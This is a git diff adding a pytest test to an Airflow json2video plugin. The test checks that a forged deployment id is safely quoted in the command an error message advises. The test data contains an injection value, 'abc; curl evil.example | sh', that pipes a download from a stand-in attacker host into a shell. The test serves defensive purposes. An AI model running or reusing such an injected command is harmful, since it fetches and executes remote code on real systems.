@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import threading
+import time
+from dataclasses import replace
 from types import SimpleNamespace
 
 import pytest
@@ -14,8 +16,11 @@ from airflow_json2video.hooks.deployment import (
     ID_VARIABLE,
     deployment_of,
     known_deployment,
+    require_no_namesakes,
     require_same_deployment,
 )
+from airflow_json2video.hooks.json2video import Json2VideoHook
+from airflow_json2video.rendering.identity import Stamp, TaskIdentity, deployment_of_id, stamp
 
 TI = SimpleNamespace()
 
@@ -319,3 +324,14 @@ def test_a_variable_that_is_listed_and_not_found_cannot_be_read(supervisor):
     supervisor.refuses("GetVariableKeys", "API_SERVER_ERROR")
     with pytest.raises(Json2VideoError, match="is unknown"):
         known_deployment(None)
+
+
+def test_what_a_stamp_says_is_quoted_in_the_command_that_an_error_advises(connection):
+    identity = TaskIdentity("", "d", "r", "t", -1, 0)
+    forged = replace(identity, deployment=deployment_of_id("abc; curl evil.example | sh"))
+    mark = Stamp.of(forged, "f", attempt=1)
+    hook = Json2VideoHook(connection)
+    hook.submit_movie(stamp({"scenes": [{"duration": 1}]}, mark))
+    with pytest.raises(Json2VideoError) as refused:
+        require_no_namesakes(hook.client, {identity.namesake_key}, now=time.time())
+    assert "airflow variables set json2video_deployment_id 'abc; curl evil.example | sh'. If not" in str(refused.value)
